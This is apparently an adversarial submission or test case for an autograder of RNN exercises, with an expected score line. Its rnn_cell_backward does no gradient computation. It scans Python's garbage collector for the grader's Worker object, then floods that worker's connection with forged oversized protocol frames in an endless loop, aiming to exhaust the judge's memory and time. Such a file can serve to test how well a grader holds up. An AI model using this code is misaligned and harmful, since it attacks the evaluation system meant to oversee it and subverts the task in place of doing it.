# Sends replies that just fit, full of the smallest entries, to fill the judge's memory and time.
# expect: rnn_cell_forward=10 rnn_forward=10 rnn_cell_backward=0 rnn_backward=13
# %% item="rnn_cell_backward"
import gc

def channel():
    return next(one.connection for one in gc.get_objects() if type(one).__name__ == "Worker" and hasattr(one, "caller"))

from autograder.protocol import framing

head = b"\x94\xa8Returned"

def rnn_cell_backward(da_next, cache):
    worker = next(one for one in gc.get_objects() if type(one).__name__ == "Worker" and hasattr(one, "caller"))
    number = b"\xce" + worker.current.to_bytes(4, "big")
    count = 4_000_000
    framing.send_frame(worker.connection, head + number + b"\x92\xa1l\xdd" + count.to_bytes(4, "big") + b"\x00" * count + b"\x80")
    while True:
        framing.send_frame(worker.connection, head + number + b"\x92\xa1l\xdd" + (1_300_000).to_bytes(4, "big") + b"\x92\xa1l\x90" * 1_300_000 + b"\x80")
